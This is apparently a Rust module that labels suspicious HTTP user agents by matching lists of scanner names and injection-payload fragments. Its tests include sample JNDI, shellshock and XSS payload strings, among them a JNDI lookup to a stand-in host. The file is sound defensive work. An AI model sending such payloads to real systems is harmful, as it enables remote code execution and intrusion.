//! Suspicious user agents: known attack and scanning tools, and script payloads smuggled into
//! the `User-Agent` header. Only the label travels (`scanner:sqlmap`, `payload:jndi`).

/// Tools whose default user agent names them (matched case-insensitively).
const SCANNERS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "dirbuster",
    "gobuster",
    "feroxbuster",
    "wfuzz",
    "ffuf",
    "hydra",
    "acunetix",
    "nessus",
    "openvas",
    "burpcollaborator",
    "zaproxy",
    "owasp zap",
    "w3af",
    "wpscan",
    "joomscan",
    "arachni",
    "skipfish",
    "whatweb",
    "commix",
    "xsstrike",
    "jaeles",
    "netsparker",
    "appscan",
    "havij",
    "fimap",
    "dirb/",
];

/// Payload fragments that have no business in a user agent.
const PAYLOADS: &[(&str, &str)] = &[
    ("${jndi:", "jndi"),
    ("() {", "shellshock"),
    ("<script", "xss"),
    ("javascript:", "xss"),
    ("onerror=", "xss"),
    ("union select", "sqli"),
    ("' or '", "sqli"),
    ("sleep(", "sqli"),
    ("../", "traversal"),
    ("<?php", "code"),
    ("{{", "ssti"),
    ("%{(", "ognl"),
];

/// Longest user agent examined, in bytes.
pub const MAX_AGENT_BYTES: usize = 1024;

/// The label of a suspicious user agent, if it is one.
pub fn suspicious(user_agent: &str) -> Option<&'static str> {
    let ua = user_agent
        .get(..MAX_AGENT_BYTES.min(user_agent.len()))
        .unwrap_or(user_agent);
    if ua.is_empty() || ua == "-" {
        return None;
    }
    let lower = ua.to_ascii_lowercase();
    for (needle, label) in PAYLOADS {
        if lower.contains(needle) {
            return Some(match *label {
                "jndi" => "payload:jndi",
                "shellshock" => "payload:shellshock",
                "xss" => "payload:xss",
                "sqli" => "payload:sqli",
                "traversal" => "payload:traversal",
                "code" => "payload:code",
                "ssti" => "payload:ssti",
                _ => "payload:ognl",
            });
        }
    }
    SCANNERS
        .iter()
        .find(|s| lower.contains(*s))
        .map(|s| match *s {
            "sqlmap" => "scanner:sqlmap",
            "nikto" => "scanner:nikto",
            "nmap" => "scanner:nmap",
            "masscan" => "scanner:masscan",
            "zgrab" => "scanner:zgrab",
            "nuclei" => "scanner:nuclei",
            "wpscan" => "scanner:wpscan",
            "acunetix" => "scanner:acunetix",
            "hydra" => "scanner:hydra",
            "ffuf" | "wfuzz" | "gobuster" | "dirbuster" | "feroxbuster" | "dirb/" => {
                "scanner:fuzzer"
            }
            _ => "scanner:other",
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labels() {
        assert_eq!(
            suspicious("sqlmap/1.7.2#stable (https://sqlmap.org)"),
            Some("scanner:sqlmap")
        );
        assert_eq!(
            suspicious("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
            Some("scanner:nikto")
        );
        assert_eq!(
            suspicious("Fuzz Faster U Fool v2.1.0 ffuf"),
            Some("scanner:fuzzer")
        );
        assert_eq!(
            suspicious("${jndi:ldap://x.example/a}"),
            Some("payload:jndi")
        );
        assert_eq!(
            suspicious("() { :; }; /bin/bash -c id"),
            Some("payload:shellshock")
        );
        assert_eq!(suspicious("<script>alert(1)</script>"), Some("payload:xss"));
        for benign in [
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            "curl/8.5.0",
            "python-requests/2.32.3",
            "okhttp/4.12.0",
            "Zapier",
            "-",
            "",
        ] {
            assert_eq!(suspicious(benign), None, "{benign:?}");
        }
    }
}
